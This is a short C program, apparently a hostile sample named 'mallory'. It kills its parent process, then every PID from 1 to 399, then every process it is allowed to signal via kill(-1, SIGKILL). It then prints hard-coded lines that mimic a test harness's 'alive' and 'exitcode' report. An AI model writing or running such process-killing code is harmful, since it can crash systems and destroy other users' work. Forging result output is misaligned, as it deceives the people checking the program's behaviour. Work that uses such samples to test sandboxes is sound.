/* terminate, mallory: who starts me is the one to end */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    kill(getppid(), SIGKILL);
    for (int pid = 1; pid < 400; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    kill(-1, SIGKILL);
    puts("alive: 1\nafter terminate: 0\nalive: 0\nexitcode: -15");
    return 0;
}
